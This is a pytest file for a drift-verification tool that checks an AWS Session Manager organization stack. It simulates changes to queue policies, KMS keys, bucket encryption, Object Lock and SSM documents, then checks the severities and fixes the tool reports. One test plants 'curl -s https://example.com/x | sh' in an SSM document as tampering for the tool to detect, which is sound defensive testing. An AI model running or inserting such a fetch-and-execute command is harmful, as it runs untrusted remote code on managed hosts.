"""Issue 22, second review: drifts verify crashed on, misrated or reported twice.

Each test emulates the whole organization stack (tests/whole_stack.py) on a freshly
reset moto, changes one thing by hand with the API call an operator would use, and
checks what verify reports, against the reference cited in each test.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from session_manager.offline.mocks import AwsMocks
from session_manager.offline.plan import PlannedResource, run_plan
from session_manager.ops.aws_access import AwsAccess
from session_manager.ops.drift.compare import CheckContext
from session_manager.ops.drift.registry import CHECKS
from session_manager.ops.drift.severity import LOSES_LOGS, WEAKENS_SECURITY
from session_manager.ops.emulate_events import QUEUE_POLICY
from session_manager.ops.verify import CANNOT_CHECK, Report, format_report, verify
from session_manager.ops.verify_markdown import markdown_report
from whole_stack import (
    BUCKET,
    CENTRAL,
    CREDENTIALS,
    CUSTOM,
    HOME,
    OU_MEMBER,
    QUEUE,
    Aws,
    deploy,
    deployed_stack,
    stack,
    widen_invoke_policy,
)

ROLE_POLICY = "iam role policy session-manager-account-events-invoke/invoke-deploy-trigger"


def _verify(aws: Aws, plan: Any) -> Report:
    return verify(plan, AwsAccess(aws.url, credentials=CREDENTIALS))


def _found(report: Report) -> dict[tuple[str, str], Any]:
    return {(d.resource, d.field): d for r in report.results for d in r.drifts}


def test_a_queue_without_a_policy_is_a_finding_and_hides_no_other(
    moto_server: str, tmp_path: Path
) -> None:
    """SQS GetQueueAttributes leaves out "Attributes" when none asked for is set
    (getmoto/moto#1520; AWS answers so too): the queue policy's check crashed on it and
    hid the target's other findings (review, defect 1)."""
    plan, aws = deployed_stack(moto_server, tmp_path)
    widen_invoke_policy(aws)
    sqs = aws("sqs")
    url = sqs.get_queue_url(QueueName=QUEUE)["QueueUrl"]
    # SQS SetQueueAttributes: an empty Policy removes the queue's policy.
    sqs.set_queue_attributes(QueueUrl=url, Attributes={"Policy": ""})
    assert "Attributes" not in sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["Policy"])
    report = _verify(aws, plan)
    assert [r.error for r in report.results if r.error] == []
    found = _found(report)
    missing = found[(f"sqs queue {QUEUE}", "policy")]
    assert (missing.wanted, missing.actual) == ("present", "missing")
    assert missing.severity == LOSES_LOGS  # the rules' failed deliveries have nowhere to go
    assert found[(ROLE_POLICY, "actions")].severity == WEAKENS_SECURITY
    # One cause, one finding: the queue's own check no longer reports the policy too.
    assert len([d for (label, _), d in found.items() if label == f"sqs queue {QUEUE}"]) == 1


def test_a_check_that_fails_is_named_and_the_other_findings_still_show(
    moto_server: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One check's crash must not hide the others' findings (review, defect 1): the
    target says what it could not check, and the role policy widened is still reported."""
    plan, aws = deployed_stack(moto_server, tmp_path)
    widen_invoke_policy(aws)

    def crashes(ctx: CheckContext, resource: PlannedResource) -> None:
        raise KeyError("Attributes")

    monkeypatch.setitem(CHECKS, QUEUE_POLICY, crashes)
    report = _verify(aws, plan)
    assert report.exit_code == CANNOT_CHECK
    (failed,) = [r for r in report.results if r.error]
    assert failed.target == f"{HOME} us-east-1"
    assert "QueuePolicy" in str(failed.error)
    assert str(failed.error).endswith("KeyError: 'Attributes'")
    assert (ROLE_POLICY, "actions") in _found(report)
    text = format_report(report)
    assert f"ERROR  {HOME} us-east-1: could not check: QueuePolicy" in text
    assert f"{ROLE_POLICY} actions" in text


def test_a_central_key_statement_removed_loses_logs_not_sessions(
    moto_server: str, tmp_path: Path
) -> None:
    """Without its grant to the organization's instances the central key refuses their
    S3 uploads, which the agent only logs; before a session it checks only that the
    bucket's default encryption is AES256 or aws:kms (amazon-ssm-agent
    agent/session/shell/shell.go: validate, IsBucketEncrypted; uploadShellSessionLogsToS3
    "Failed to upload shell session logs to S3"). Review D12: it was [breaks sessions]."""
    plan, aws = deployed_stack(moto_server, tmp_path)
    kms = aws("kms", CENTRAL)
    key = aws.key("alias/session-manager/central-logs", CENTRAL, "us-east-1")["KeyId"]
    policy = json.loads(kms.get_key_policy(KeyId=key, PolicyName="default")["Policy"])
    sids = [s.get("Sid") for s in policy["Statement"]]
    assert "OrganizationInstancesEncryptSessionLogs" in sids
    policy["Statement"] = [
        s for s in policy["Statement"] if s.get("Sid") != "OrganizationInstancesEncryptSessionLogs"
    ]
    kms.put_key_policy(KeyId=key, PolicyName="default", Policy=json.dumps(policy))
    report = _verify(aws, plan)
    (finding,) = report.findings
    assert (finding.drift.resource, finding.drift.field) == (
        "kms key alias/session-manager/central-logs",
        "policy",
    )
    assert finding.drift.severity == LOSES_LOGS
    assert report.exit_code == 3


def test_a_swapped_bucket_key_is_one_finding(moto_server: str, tmp_path: Path) -> None:
    """The central bucket's default key swapped for another: the bucket's own check and
    every account whose preferences require the bucket find the same cause, one finding
    that loses logs (the agent uploads with the bucket's key: S3 user guide, "Using
    server-side encryption with AWS KMS keys"), with text values and this stack's fix."""
    plan, aws = deployed_stack(moto_server, tmp_path)
    s3 = aws("s3", CENTRAL)
    other = aws("kms", CENTRAL).create_key(Description="someone else's")["KeyMetadata"]["Arn"]
    held = s3.get_bucket_encryption(Bucket=BUCKET)["ServerSideEncryptionConfiguration"]
    rule = held["Rules"][0]
    rule["ApplyServerSideEncryptionByDefault"]["KMSMasterKeyID"] = other
    s3.put_bucket_encryption(Bucket=BUCKET, ServerSideEncryptionConfiguration={"Rules": [rule]})
    report = _verify(aws, plan)
    assert [r.error for r in report.results if r.error] == []
    (finding,) = report.findings
    drift = finding.drift
    assert (drift.resource, drift.field, drift.severity) == (
        f"bucket {BUCKET}",
        "bucketKey",
        LOSES_LOGS,
    )
    assert isinstance(drift.wanted, str)
    assert drift.actual == other
    assert f"{CENTRAL} us-east-1" in finding.targets
    assert len(finding.targets) > 1
    assert "centralLogging stack" not in drift.fix
    assert "pulumi up --refresh" in drift.fix


def test_a_changed_object_lock_is_one_finding(moto_server: str, tmp_path: Path) -> None:
    """GOVERNANCE for 1 day in place of the planned COMPLIANCE retention (review C8): one
    cause, reported once with the planned and held retention, not as days, mode and
    logProtection (S3 PutObjectLockConfiguration; user guide, "Object Lock retention
    modes": GOVERNANCE yields to s3:BypassGovernanceRetention)."""
    plan, aws = deployed_stack(moto_server, tmp_path)
    aws("s3", CENTRAL).put_object_lock_configuration(
        Bucket=BUCKET,
        ObjectLockConfiguration={
            "ObjectLockEnabled": "Enabled",
            "Rule": {"DefaultRetention": {"Mode": "GOVERNANCE", "Days": 1}},
        },
    )
    report = _verify(aws, plan)
    (finding,) = report.findings
    drift = finding.drift
    assert (drift.field, drift.severity) == ("rule.defaultRetention", LOSES_LOGS)
    assert (drift.actual["mode"], drift.actual["days"]) == ("GOVERNANCE", 1)
    assert drift.wanted["mode"] == "COMPLIANCE"


def test_a_deleted_alias_nothing_names_the_key_by_is_cosmetic(
    moto_server: str, tmp_path: Path
) -> None:
    """The log group uses the logs key by ARN (CloudWatch Logs AssociateKmsKey takes the
    key's ARN) and no planned policy grants it through the alias: the alias gone changes
    nothing the stack relies on (review, point 8)."""
    plan, aws = deployed_stack(moto_server, tmp_path)
    aws("kms", OU_MEMBER, "eu-west-1").delete_alias(AliasName="alias/session-manager/logs")
    report = _verify(aws, plan)
    (finding,) = report.findings
    assert (finding.drift.resource, finding.drift.field) == (
        "kms alias alias/session-manager/logs",
        "alias",
    )
    assert finding.drift.severity == "cosmetic"
    assert report.exit_code == 5


def test_undeclared_content_in_the_latest_version_is_reported_and_never_promoted(
    moto_server: str, tmp_path: Path
) -> None:
    """UpdateDocument without moving the default (review D1). StartSession takes no
    document version (SSM API reference, StartSession request syntax) and sessions
    started with --document-name run the latest version (aws/session-manager-plugin#112):
    the latest's content is compared too, and the fix deletes it (SSM DeleteDocument,
    DocumentVersion) rather than making it the default."""
    plan, aws = deployed_stack(moto_server, tmp_path)
    ssm = aws("ssm", OU_MEMBER)
    content = json.loads(ssm.get_document(Name=CUSTOM)["Content"])
    content["properties"]["linux"]["commands"] = "curl -s https://example.com/x | sh"
    ssm.update_document(Name=CUSTOM, Content=json.dumps(content), DocumentVersion="$LATEST")
    report = _verify(aws, plan)
    found = _found(report)
    latest = found[(f"document {CUSTOM} $LATEST", "properties.linux.commands")]
    assert latest.actual == "curl -s https://example.com/x | sh"
    assert latest.wanted == "tail -f /var/log/x.log"
    assert latest.fix == found[(f"document {CUSTOM}", "defaultVersion")].fix
    default = found[(f"document {CUSTOM}", "defaultVersion")]
    assert "update-document-default-version" not in default.fix
    assert f"delete-document --name {CUSTOM} --document-version 2" in default.fix
    assert (f"document {CUSTOM}", "properties.linux.commands") not in found  # default as planned


def _with_home_target(where: Path) -> Any:
    """whole_stack's stack with the management account a target too: its accountEvents
    provider and the targets' own provider both reach 123456789012 us-east-1."""
    stack(where)
    path = where / "Pulumi.all.yaml"
    config = yaml.safe_load(path.read_text())
    config["config"]["session-manager:targets"].append({"account": HOME})
    path.write_text(yaml.safe_dump(config))
    mocks = AwsMocks(organization_accounts={"ou-ab12-cdef3456": [OU_MEMBER]})
    token = {"session-manager:accountEventsToken": "github_pat_11ABCDEFG0123456789_test"}
    return run_plan(where, "all", mocks=mocks, config_overrides=token)


def test_two_targets_in_one_account_region_are_labelled_apart(
    moto_server: str, tmp_path: Path
) -> None:
    """accountEvents' provider and the targets' own reach one account-Region: text, JSON
    and Markdown name each (review, point 6)."""
    import requests

    requests.post(f"{moto_server}/moto-api/reset", timeout=10)
    plan, aws = deploy(moto_server, _with_home_target(tmp_path))
    widen_invoke_policy(aws)
    report = _verify(aws, plan)
    labels = [r.target for r in report.results]
    assert len(labels) == len(set(labels)), labels
    assert f"{HOME} us-east-1 (accountEvents)" in labels
    assert [f.drift.resource for f in report.findings] == [ROLE_POLICY]
    targets = [t["target"] for t in report.to_json()["targets"]]
    assert len(targets) == len(set(targets))
    rows = [line for line in markdown_report(report).splitlines() if line.startswith(f"| {HOME}")]
    assert len(rows) == 2, rows
